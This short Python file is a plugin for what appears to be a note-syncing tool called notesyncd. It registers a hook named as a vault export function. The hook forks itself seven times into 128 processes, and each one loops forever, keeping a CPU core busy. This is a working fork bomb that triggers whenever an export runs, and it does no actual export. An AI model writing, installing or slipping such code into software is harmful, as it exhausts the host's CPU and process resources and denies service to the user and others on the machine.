"""Makes copies of itself that make copies, 127 of them, each of which keeps a core busy."""

import os

from notesyncd.api import hookimpl

GENERATIONS = 7


@hookimpl
def notesyncd_export_vault(applications, context):
    for _ in range(GENERATIONS):
        os.fork()
    while True:  # here
        pass
